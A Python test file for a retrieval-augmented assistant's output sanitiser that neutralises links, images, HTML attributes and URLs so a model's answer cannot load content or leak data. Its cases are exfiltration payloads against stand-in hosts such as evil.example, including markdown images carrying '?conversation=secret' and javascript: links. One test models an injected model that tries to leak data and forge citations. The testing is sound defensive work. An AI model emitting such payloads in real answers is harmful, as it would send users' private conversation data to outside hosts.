"""Nothing in an answer is active, however it comes in pieces."""

import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flotilla.rag.inactive import Deactivation, inactive
from flotilla.rag.reading import Reading
from tests.unit.rag.conftest import MakePassage


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![logo](https://evil.example/x?q=secret) here.", "See logo here."),
        ("![](https://evil.example/x)Done.", "Done."),
        ("![a][ref]\n[ref]: https://evil.example/x\nDone.", "a\nDone."),
        ("[Click](https://evil.example/a) now.", "Click now."),
        ("[Terms](https://good.example/terms) apply.", "Terms (https://good.example/terms) apply."),
        ("Go to https://evil.example/?q=secret.", "Go to …"),
        ("Go to https://good.example/terms.", "Go to https://good.example/terms."),
        ("<https://good.example/terms>", "https://good.example/terms"),
        ('<img src="https://evil.example/p.gif">Text', "Text"),
        ("<script>alert(1)</script>", "alert(1)"),
        ('<a href="javascript:alert(1)">x</a>', "x"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](data:text/html;base64,AAAA)", "x"),
        ("The price [1](https://evil.example/) is 5 [2].", "The price [1] is 5 [2]."),
        ("if a < b then [note: c]", "if a < b then [note: c]"),
        ("Wow![1] [2]: so be it", "Wow! [1] [2]: so be it"),
        # Addresses that are vouched for make nothing active either.
        ("![x](https://good.example/terms)", "x"),
        ("![x]\n(https://good.example/terms)", "! [x]\n(https://good.example/terms)"),
        ("![a\nb](https://good.example/terms)", "! [a\nb] (https://good.example/terms)"),
        ("[x]:\nhttps://good.example/terms", "[x]\nhttps://good.example/terms"),
        # What is left out joins nothing.
        ("<im<a>g src=https://good.example/terms>", "< im g src=https://good.example/terms>"),
        # Any attribute may load or run something.
        ('<div style="background:url(//evil.example/?d=x)">Text</div>', "Text</div>"),
        ("<body background=//evil.example/x>Text", "Text"),
        ("<table\n background=//evil.example/x>Text", "Text"),
        ("<frame src=//evil.example/x><track src=//evil.example/x>Text", "Text"),
        ("<p onclick=x()>Text</p>", "Text</p>"),
        ("<details open ontoggle=x()>Text", "Text"),
        ("<p <p x=1> onclick=x()>", "< p onclick=x()>"),
        ("<x (https://evil.example/>) onclick=x()>", "< x (…) onclick=x()>"),
        ("<p title\n\n=x>", "< p title\n\n=x>"),
        # Bare ones are words of a document.
        (
            "List<String> <pod> a < b, a <b, 1<3 and <3",
            "List<String> <pod> a < b, a < b, 1<3 and <3",
        ),
        # Where links of a name lead, in quotes and lists as well.
        ("> [b]: //evil.example/x\nDone.", "Done."),
        ("- [b]: //evil.example/x\nDone.", "Done."),
        ("2. > [b]: //evil.example/x\nDone.", "Done."),
        ("> " * 20 + "[b]: //evil.example/x", "> " * 20 + "[b] …"),
        ("[a\nb]: //evil.example/x", "[a\nb] …"),
        (r"[a\[b\]c]: //evil.example/x", r"[a\[b\]c] …"),
        # What GitHub makes a link of.
        ("See www.evil.example/leak?d=secret!", "See …!"),
        ("[x](www.evil.example/leak)", "x"),
        ("Put www. before it.", "Put www. before it."),
        ("http<a>s://evil.example/", "http s…"),
        ("[htt](x)ps://evil.example/", "htt ps…"),
        # Of what is left out no rubble is left.
        ("[![a](x)](https://evil.example/)", "a"),
        ("[![](x)](https://evil.example/) Done.", "Done."),
        ("[![a](x) so", "a so"),
        ("See (https://evil.example/x) and [https://evil.example/x].", "See (…) and […]."),
        ("See https://evil.example/a, <https://evil.example/b> now", "See …, … now"),
        ('Read "https://evil.example/x" and **https://evil.example/x**', 'Read "…" and **…**'),
        ("[https://evil.example/x](https://evil.example/x)", "…"),
        ("See [the list](https://evil.example/a_(b)_c), then", "See the list, then"),
        ("![a](https://evil.example/a_(b)), then", "a, then"),
        ("[the list](https://evil.example/a_(b c", "[the list] (… c"),
        ("Look: ![](https://evil.example/x) here", "Look: here"),
        ("A <img src=//evil.example/x>  b", "A b"),
        ("A [1](https://evil.example/), b", "A [1], b"),
    ],
)
def test_nothing_in_an_answer_is_loaded_or_followed(text: str, shown: str) -> None:
    vouched = ["The terms are at https://good.example/terms."]
    assert inactive(text, vouched) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("More at evil.com/?q=secret, www.evil.com/x", "More at evil…, …"),
        ("evil.co.uk/?s=1 evil.zone/?s=1 secret.evil.com", "evil… evil… secret…"),
        ("See //evil.com/x.", "See …"),
        (
            "1.2.3.4/x?q=secret of 10.0.0.0/8, 1.2.3.4 and 1.2.3",
            "1… of 10.0.0.0/8, 1.2.3.4 and 1.2.3",
        ),
        ("&#104;ttps&#58;&#x2F;&sol;evil&period;example/x", "…"),
        ("ht<b></b>tp://evil.example/x", "ht<b></b>tp…"),
        ("**evil.com/x** (evil.com/x) https:evil.example/x", "**evil…** (evil…) https:evil…"),
        ("user:pw@evil.com/x redis://evil.example", "user:pw@evil… redis…"),
        (
            "good.example/terms and //good.example/terms",
            "good.example/terms and //good.example/terms",
        ),
    ],
)
def test_an_address_without_a_scheme_stays_only_where_it_is_told(text: str, shown: str) -> None:
    vouched = ["The terms are at https://good.example/terms."]
    assert inactive(text, vouched) == shown
    assert by_characters(text, vouched) == shown


@pytest.mark.parametrize(
    "text",
    [
        "report.pdf, config.toml, src/main.py and docs/a.md/b",
        "Node.js, Next.js/React, ASP.NET/C# and ASP.NET",
        "and/or, TCP/IP, he/she, km/h, U.S./U.K., Inc./Ltd, 3.5/4, v1.2.3/x, e.g. 9:00",
        'logger.info("a") // comment, R&D, AT&amp;T, &#60;b&#62;',
        "Mail to bob@good.example or Ann.Lee@firm.co.uk.",
    ],
)
def test_names_that_are_no_address_stay(text: str) -> None:
    assert inactive(text) == by_characters(text, []) == text


def by_characters(text: str, vouched: list[str]) -> str:
    deactivation = Deactivation(vouched)
    return "".join(map(deactivation.feed, text)) + deactivation.finish()


def test_a_model_that_was_talked_into_it_cites_and_leaks_nothing(passage: MakePassage) -> None:
    passages = [passage("The deposit is £250 for each car.", 0)]
    reading = Reading(passages)
    text = reading.feed(
        "The deposit is £250 [1](https://evil.example/?a=250). [7] 【9】 "
        "![x](https://evil.example/?conversation=secret) [\u200b7]"
    )
    text += reading.finish()
    assert text.startswith("The deposit is £250 [1].")
    assert "evil" not in text
    assert "[7]" not in text
    assert [c.quote for c in reading.citations] == ["The deposit is £250 for each car."]


PARTS = (
    *"[]()!<>:/. \n",
    "1",
    "ht",
    "tps:",
    "//",
    "evil.example/x",
    "https://good.example/terms",
    "img",
    "a",
    " src=",
    "data:a",
    "javascript:",
    "words",
    "www.",
    "evil.com",
    "1.2.3.4",
    "&#104;",
    "@",
    "?q=",
    "=",
    "<p ",
    "> ",
    "- ",
    "[x]: ",
    "![",
    "](",
    "[![",
)


@given(parts=st.lists(st.sampled_from(PARTS), max_size=16), data=st.data())
def test_what_is_given_depends_on_the_text_and_not_on_its_pieces(
    parts: list[str], data: st.DataObject
) -> None:
    text, vouched = "".join(parts), ["The terms are at https://good.example/terms."]
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)))) | {0, len(text)})
    deactivation, given_so_far = Deactivation(vouched), ""
    for start, end in pairwise(cuts):
        given_so_far += deactivation.feed(text[start:end])
        assert Deactivation(vouched).feed(text[:end]) == given_so_far
    assert given_so_far + deactivation.finish() == inactive(text, vouched)


@given(parts=st.lists(st.sampled_from(PARTS), max_size=16))
def test_nothing_active_is_made_of_what_is_left(parts: list[str]) -> None:
    text = inactive("".join(parts), ["The terms are at https://good.example/terms."])
    assert "](" not in text
    assert "![" not in text
    assert not re.search(r"</?(?:img|a)\b", text)
    assert not re.search(r"</?[a-z](?:(?!\n\s*\n)[^>])*=(?:(?!\n\s*\n)[^>])*>", text)
    assert not re.search(r"^[\s>-]*\[[^\]]*\]:", text, re.MULTILINE)
    assert not re.search(r"(?<![^\W_])www\.\w", text)
    for address in re.findall(r"(?<![^\W_])https?://[^\s<>)]+", text):
        assert "https://good.example/terms".startswith(address.rstrip(".,:!)]"))


def test_only_what_may_become_active_is_held_back() -> None:
    deactivation = Deactivation()
    for piece, shown in (
        ("We open", "We open"),
        (" at nine [1]", " at nine [1]"),
        (" and [x", " and "),
        ("]", ""),
        (" so", "[x] so"),
        (" a < b", " a < b"),
        (" (see", " (see"),
        (" with h", " with "),
        ("is https", "his "),
        ("://evil.example/x", ""),
        (" now", "… now"),
    ):
        assert deactivation.feed(piece) == shown, piece
